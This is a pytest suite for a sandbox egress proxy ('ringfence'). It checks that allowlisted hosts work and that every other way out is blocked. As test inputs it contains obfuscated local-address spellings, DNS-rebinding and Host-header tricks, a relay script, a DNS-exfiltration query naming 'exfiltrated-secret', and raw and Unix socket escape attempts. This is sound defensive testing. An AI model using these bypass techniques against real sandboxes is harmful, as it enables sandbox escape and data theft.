"""A limited network, through ringfence itself: the sandbox reaches allowed
names only through the egress proxy, and every other way out is closed.

Loopback only. Upstream servers on 127.0.0.x stand for public hosts: the
proxy resolves names through a routes file the tests write (public
addresses, so its local-address checks apply as for real), and dials the
loopback server standing for each address. Verdicts are the servers' logs.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess

import pytest
from harness import must_have
from proxyworld import PUBLIC, PUBLIC_OTHER, TlsGitServer, Upstream, have, node_with_proxy_variables
from test_network_and_env import CONNECT, Server, python

from ringfence.backends.bwrap.egress import TEST_ROUTES_VARIABLE

pytestmark = pytest.mark.boundary

PUBLIC_TLS = "93.184.216.36"
VICTIM = "127.0.0.3"
LOCAL_SPELLINGS = ["127.0.0.3", "2130706435", "0x7f000003", "0177.0.0.3", "127.3", "[::ffff:127.0.0.3]",
                   "[::ffff:7f00:3]", "[64:ff9b::7f00:3]", "127.0.0.3."]
PROFILE = """default_permissions = "dev"
[permissions.dev]
extends = ":workspace"
[permissions.dev.network]
enabled = true
mode = "limited"
enable_socks5 = true
[permissions.dev.network.domains]
"allowed.test" = "allow"
"secure.test" = "allow"
"rebind.test" = "allow"
"private.test" = "allow"
"*.denied.test" = "deny"
"""


class World:
    """The servers, the routes file, and the profile, for one scene."""

    def __init__(self, scene):
        self.scene = scene
        self.upstream = Upstream("127.0.0.2")
        self.other = Upstream("127.0.0.5")
        self.victim = Upstream(VICTIM)
        self.tls = TlsGitServer(scene.mkdir("outside/tls"), name="secure.test") \
            if have("openssl") and have("git") else None
        if self.tls is not None:
            # The sandbox reads the certificate from the workspace.
            scene.write("ws/ca-bundle.txt", open(self.tls.cert).read())
        self.routes({})
        scene.config(PROFILE)

    def routes(self, extra_hosts: dict):
        hosts = {"allowed.test": [PUBLIC], "other.example": [PUBLIC_OTHER], "x.denied.test": [PUBLIC],
                 "secure.test": [PUBLIC_TLS], "private.test": [VICTIM],
                 "rebind.test": [[PUBLIC], [VICTIM]], **extra_hosts}
        dial_map = {PUBLIC: f"{self.upstream.host}:{self.upstream.port}",
                    PUBLIC_OTHER: f"{self.other.host}:{self.other.port}"}
        if self.tls is not None:
            dial_map[PUBLIC_TLS] = f"127.0.0.4:{self.tls.port}"
        path = self.scene.write("outside/routes.json", json.dumps({"hosts": hosts, "dial_map": dial_map}))
        self.scene.extra_env[TEST_ROUTES_VARIABLE] = path

    def close(self):
        for server in (self.upstream, self.other, self.victim, self.tls):
            if server is not None:
                server.close()


@pytest.fixture
def world(scene):
    made = World(scene)
    yield made
    made.close()


def _marker(name: str) -> str:
    return f"/{name}-{os.urandom(3).hex()}"


def test_allowed_names_are_reached_over_http_connect_and_socks(world, scene):
    plain, socks, from_python = _marker("plain"), _marker("socks"), _marker("python")
    script = (f"curl -sS -m 10 http://allowed.test{plain} && "
              f"curl -sS -m 10 --proxy \"$ALL_PROXY\" http://allowed.test{socks} && "
              f"python3 -c \"import urllib.request; urllib.request.urlopen('http://allowed.test{from_python}')\"")
    result = scene.sh(script)
    assert result.returncode == 0, result.stderr
    assert {plain, socks, from_python} <= set(world.upstream.paths()), world.upstream.paths()
    assert "ALL_PROXY=socks5h://" in scene.sh("env").stdout


def test_https_and_git_go_through_connect(world, scene):
    must_have(world.tls is not None, "openssl and git make the https server")
    port = world.tls.port
    result = scene.sh(f"curl -sS -m 10 --cacert ca-bundle.txt https://secure.test:{port}/repo.git/HEAD && "
                      f"GIT_SSL_CAINFO=$PWD/ca-bundle.txt git clone -q https://secure.test:{port}/repo.git clone && "
                      "cat clone/README")
    assert result.returncode == 0, result.stderr
    assert "through the proxy" in result.stdout
    assert "/repo.git/info/refs?service=git-upload-pack" in world.tls.log


def test_node_goes_through_the_proxy(world, scene):
    node = node_with_proxy_variables()
    must_have(node is not None, "a node that honours NODE_USE_ENV_PROXY (22.21+, 24.5+): pip install '.[test]'")
    path = _marker("node")
    result = scene.sh(f"{node} -e \"fetch('http://allowed.test{path}').then(r => process.exit(r.ok ? 0 : 1))\"")
    assert result.returncode == 0, result.stderr
    assert path in world.upstream.paths()


def test_unlisted_and_denied_names_are_refused_naming_the_rule(world, scene):
    unlisted, denied = _marker("unlisted"), _marker("denied")
    result = scene.sh(f"curl -sS -m 10 -i http://other.example{unlisted}; echo; "
                      f"curl -sS -m 10 -i http://x.denied.test{denied}")
    assert "403" in result.stdout and "blocked by allowlist: other.example" in result.stdout, result.stdout
    assert "x-proxy-error: blocked-by-denylist" in result.stdout, result.stdout
    assert "network: refused other.example:80: blocked by allowlist: other.example" in result.stderr
    assert world.other.paths() == [] and denied not in world.upstream.paths()
    control = subprocess.run(["curl", "-sS", "-m", "5", f"http://{world.other.host}:{world.other.port}{unlisted}"],
                             capture_output=True)
    assert control.returncode == 0 and unlisted in world.other.paths(), "control: the server answers the host"


def test_a_direct_dial_gets_nothing(world, scene):
    """A program that ignores the proxy variables, by IPv4 or IPv6 address."""
    server6 = Server(socket.AF_INET6, ("::1", 0))
    try:
        for family, address in (("socket.AF_INET", (world.upstream.host, world.upstream.port)),
                                ("socket.AF_INET6", server6.sock.getsockname()[:2])):
            script = python(scene, CONNECT.format(family=family, kind="socket.SOCK_STREAM", address=address))
            before = world.upstream.connections
            scene.sh(script, sandbox=False)
            assert world.upstream.connections > before or server6.settle(), "control: the dial works"
            before, seen = world.upstream.connections, len(server6.settle())
            scene.sh(script)
            assert world.upstream.connections == before and len(server6.settle()) == seen
    finally:
        server6.close()


@pytest.mark.parametrize("spelling", LOCAL_SPELLINGS)
def test_a_local_address_is_refused_in_every_spelling(world, scene, spelling):
    path = _marker("local")
    control = subprocess.run(["curl", "-sS", "-m", "5", f"http://{VICTIM}:{world.victim.port}{path}"],
                             capture_output=True)
    assert control.returncode == 0 and path in world.victim.paths(), "control: the victim answers the host"
    result = scene.sh(f"curl -sS -m 10 -i --path-as-is 'http://{spelling}:{world.victim.port}{path}-in'")
    assert f"{path}-in" not in world.victim.paths(), result.stdout
    assert "403" in result.stdout, result.stdout


def test_names_that_resolve_or_rebind_to_a_local_address_are_refused(world, scene):
    first, second, private = _marker("rebind-1"), _marker("rebind-2"), _marker("private")
    result = scene.sh(f"curl -sS -m 10 http://rebind.test{first}; curl -sS -m 10 -i http://rebind.test{second}; "
                      f"curl -sS -m 10 -i http://private.test:{world.victim.port}{private}")
    assert first in world.upstream.paths(), "control: the first answer (public) is dialled"
    assert second not in world.upstream.paths() + world.victim.paths(), result.stdout
    assert private not in world.victim.paths(), result.stdout


def test_a_host_header_that_disagrees_with_the_target_is_refused(world, scene):
    path = _marker("host-header")
    result = scene.sh(f"curl -sS -m 10 -i -H 'Host: other.example' http://allowed.test{path}")
    assert path not in world.upstream.paths() + world.other.paths(), result.stdout
    assert result.stdout.startswith("HTTP/1.1 4"), result.stdout


FORWARDER = """
import os, socket, sys, threading
target = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(8)
print(listener.getsockname()[1], flush=True)

def pump(a, b):
    while True:
        data = a.recv(65536)
        if not data:
            b.shutdown(socket.SHUT_WR)
            return
        b.sendall(data)

while True:
    client, _ = listener.accept()
    upstream = socket.create_connection(("127.0.0.1", target))
    threading.Thread(target=pump, args=(client, upstream), daemon=True).start()
    threading.Thread(target=pump, args=(upstream, client), daemon=True).start()
"""


def test_a_second_relay_inside_still_leads_only_to_the_proxy(world, scene):
    scene.write("ws/forwarder.py", FORWARDER)
    allowed, other = _marker("relayed"), _marker("relayed-other")
    result = scene.sh("python3 forwarder.py > port & sleep 1; port=$(cat port); "
                      f"curl -sS -m 10 -x http://127.0.0.1:$port http://allowed.test{allowed}; "
                      f"curl -sS -m 10 -x http://127.0.0.1:$port -i http://other.example{other}; kill %1")
    assert allowed in world.upstream.paths(), "control: the forwarder relays to the proxy"
    assert world.other.paths() == [], result.stdout


DNS_QUERY = """
import socket, struct, sys
name = b"".join(bytes([len(part)]) + part for part in b"exfiltrated-secret.other.example".split(b".")) + b"\\0"
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
for address in {addresses!r}:
    try:
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(query, address)
    except OSError:
        pass
try:
    socket.getaddrinfo("exfiltrated-secret.other.example", 80)
except OSError:
    pass
"""


def test_dns_and_udp_get_nothing_out(world, scene):
    resolver = Server(socket.AF_INET, ("127.0.0.6", 0), kind=socket.SOCK_DGRAM)
    try:
        script = python(scene, DNS_QUERY.format(addresses=[resolver.sock.getsockname(), ("127.0.0.53", 53)]))
        scene.sh(script, sandbox=False)
        assert resolver.settle(), "control: the query reaches a resolver on the host"
        resolver.seen.clear()
        scene.sh(script)
        assert resolver.settle() == []
    finally:
        resolver.close()


RAW_SEND = """
import socket, struct
port = {port}
payload = b"raw"
header = struct.pack(">HHHH", 40000, port, 8 + len(payload), 0)
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
sock.sendto(header + payload, ("127.0.0.6", 0))
"""


def test_a_raw_socket_sends_nothing(root_scene):
    scene = root_scene
    made = World(scene)
    server = Server(socket.AF_INET, ("127.0.0.6", 0), kind=socket.SOCK_DGRAM)
    try:
        script = python(scene, RAW_SEND.format(port=server.sock.getsockname()[1]))
        scene.sh(script, sandbox=False)
        assert server.settle(), "control: root's raw socket reaches the host's server"
        server.seen.clear()
        result = scene.sh(script)
        assert server.settle() == [] and result.returncode != 0
    finally:
        server.close()
        made.close()


def test_host_unix_sockets_are_out_of_reach(world, scene):
    """The workspace is visible, and so would be a host socket in it; the
    sandbox's own network namespace already hides abstract sockets."""
    path = os.path.join(scene.ws, "host.sock")
    abstract = "\0ringfence-egress-" + os.urandom(4).hex()
    servers = [Server(socket.AF_UNIX, path), Server(socket.AF_UNIX, abstract)]
    os.chmod(path, 0o777)
    try:
        for server, address in zip(servers, (path, abstract)):
            script = python(scene, CONNECT.format(family="socket.AF_UNIX", kind="socket.SOCK_STREAM",
                                                  address=address))
            scene.sh(script, sandbox=False)
            assert server.settle(), "control: the host socket accepts this user"
            server.seen.clear()
            scene.sh(script)
            assert server.settle() == []
        pair = scene.sh("python3 -c 'import socket; socket.socketpair()'")
        assert pair.returncode == 0, "stream pairs (pipes to children) keep working: " + pair.stderr
    finally:
        for server in servers:
            server.close()


DATAGRAM_PAIR = """
import socket
ours, _theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
ours.connect({path!r})
ours.send(b"hello")
"""


def test_a_datagram_pair_cannot_reach_a_host_socket(world, scene):
    path = os.path.join(scene.ws, "host-dgram.sock")
    server = Server(socket.AF_UNIX, path, kind=socket.SOCK_DGRAM)
    os.chmod(path, 0o777)
    try:
        script = python(scene, DATAGRAM_PAIR.format(path=path))
        scene.sh(script, sandbox=False)
        assert server.settle(), "control: a datagram pair's end reaches the host socket"
        server.seen.clear()
        scene.sh(script)
        assert server.settle() == []
    finally:
        server.close()


def test_an_allowed_unix_socket_is_reachable(world, scene):
    folder = scene.mkdir("outside/sockets")
    path = os.path.join(folder, "allowed.sock")
    server = Server(socket.AF_UNIX, path)
    os.chmod(path, 0o777)
    try:
        script = python(scene, CONNECT.format(family="socket.AF_UNIX", kind="socket.SOCK_STREAM", address=path))
        scene.sh(script)
        assert server.settle() == [], "control: without a rule the socket is out of reach"
        hidden_folder = f'[permissions.dev.filesystem]\n"{folder}" = "none"\n[permissions.dev.network]'
        scene.config(PROFILE.replace("[permissions.dev.network]", hidden_folder)
                     + f'[permissions.dev.network.unix_sockets]\n"{path}" = "allow"\n')
        result = scene.sh(script)
        assert server.settle(), result.stderr
        assert scene.sh(f"ls {folder}").returncode != 0, "the folder around it stays hidden"
    finally:
        server.close()


# --- the seed's configurations, unchanged but for their paths ------------------------------

MONOREPO = """default_permissions = "monorepo"

[permissions.monorepo.filesystem.":project_roots"]
"." = "write"
"**/*.env" = "none"
"**/*.env.*" = "none"
"**/*.pem" = "none"
"**/secrets/" = "none"
".git" = "read"

[permissions.monorepo.network]
enabled = true
mode = "limited"

[permissions.monorepo.network.domains]
"api.openai.com" = "allow"
"registry.npmjs.org" = "allow"
"""

CI = """default_permissions = "ci"
approval_policy = "never"

[permissions.ci.filesystem]
"{workspace}" = "write"
"{workspace}/.env" = "none"
"{tmp}" = "write"

[permissions.ci.network]
enabled = true
mode = "limited"

[permissions.ci.network.domains]
"api.openai.com" = "allow"

[shell_environment_policy]
inherit = "core"
exclude = ["CI_*_TOKEN", "DOCKER_AUTH_*"]
"""


def test_the_monorepo_pattern_runs(world, scene):
    scene.git("init", "-q")
    world.routes({"api.openai.com": [PUBLIC], "registry.npmjs.org": [PUBLIC]})
    scene.write("ws/services/api/.env", "KEY=s3cr3t\n")
    scene.write("ws/services/api/secrets/key.txt", "s3cr3t\n")
    scene.config(MONOREPO)
    api, registry, other = _marker("api"), _marker("npm"), _marker("other")
    result = scene.sh(f"curl -sS -m 10 http://api.openai.com{api} && curl -sS -m 10 http://registry.npmjs.org{registry}"
                      f" && echo built > services/api/out.txt; cat services/api/.env services/api/secrets/key.txt;"
                      f" curl -sS -m 10 http://other.example{other}")
    assert {api, registry} <= set(world.upstream.paths()), result.stderr
    assert scene.read("ws/services/api/out.txt") == "built\n"
    assert "s3cr3t" not in result.stdout and world.other.paths() == []


def test_the_ci_pattern_runs(world, scene):
    scene.git("init", "-q")
    world.routes({"api.openai.com": [PUBLIC]})
    scene.write("ws/.env", "KEY=s3cr3t\n")
    # The host's /tmp of a shared test machine holds other runs' repositories.
    tmp = scene.mkdir("outside/tmp")
    scene.config(CI.format(workspace=scene.ws, tmp=tmp))
    scene.extra_env["CI_JOB_TOKEN"] = "s3cr3t-token"
    api = _marker("ci-api")
    result = scene.sh(f"curl -sS -m 10 http://api.openai.com{api} && echo built > out.txt && "
                      f"echo tmp > {tmp}/scratch && cat {tmp}/scratch; cat .env; env")
    assert api in world.upstream.paths(), result.stderr
    assert scene.read("ws/out.txt") == "built\n" and "tmp" in result.stdout
    assert "s3cr3t" not in result.stdout


def _processes_with(marker: bytes) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as handle:
                    if marker in handle.read():
                        found.append(int(pid))
            except OSError:
                pass
    return found


def _stat_fields(pid: int) -> list[str]:
    """state, parent pid, ... of a process (what follows its name); [] once it is gone."""
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return handle.read().rsplit(")", 1)[1].split()
    except OSError:
        return []


def _running(pid: int) -> bool:
    fields = _stat_fields(pid)
    return bool(fields) and fields[0] != "Z"


def test_the_proxy_and_the_sandbox_end_with_a_killed_ringfence(world, scene):
    import signal
    import sys
    import time

    sleeper = f"sleep\0{47 + int.from_bytes(os.urandom(2), 'big') / 1e5}".encode()
    kwargs = {} if scene.user.is_current else {"user": scene.user.uid, "group": scene.user.gid, "extra_groups": []}
    launcher = subprocess.Popen([sys.executable, "-P", "-m", "ringfence", "run", "--no-tty", "--",
                                 *sleeper.decode().split("\0")], cwd=scene.ws, env=scene.env(),
                                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                **kwargs)
    proxies: list[int] = []
    deadline = time.time() + 30
    while time.time() < deadline and not (proxies and _processes_with(sleeper)):
        proxies = [pid for pid in _processes_with(b"ringfence.proxy.server")
                   if _stat_fields(pid)[1:2] == [str(launcher.pid)]]
        time.sleep(0.05)
    assert proxies and _processes_with(sleeper), "control: the run, and a proxy of its own, are running"
    launcher.send_signal(signal.SIGKILL)
    launcher.wait()
    deadline = time.time() + 10
    while time.time() < deadline and (any(map(_running, proxies)) or _processes_with(sleeper)):
        time.sleep(0.05)
    left = {pid: (_stat_fields(pid)[:2], open(f"/proc/{pid}/cmdline", "rb").read()[:200])
            for pid in _processes_with(sleeper)}
    assert not left, f"the sandbox outlived ringfence: {left}"
    assert not any(map(_running, proxies)), "the proxy outlived ringfence"
